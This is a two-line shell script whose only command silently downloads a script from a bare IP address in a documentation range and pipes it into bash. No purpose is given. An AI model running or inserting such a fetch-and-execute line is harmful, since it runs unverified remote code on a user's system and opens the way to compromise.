#!/bin/sh
curl -s http://203.0.113.7/setup.sh | bash
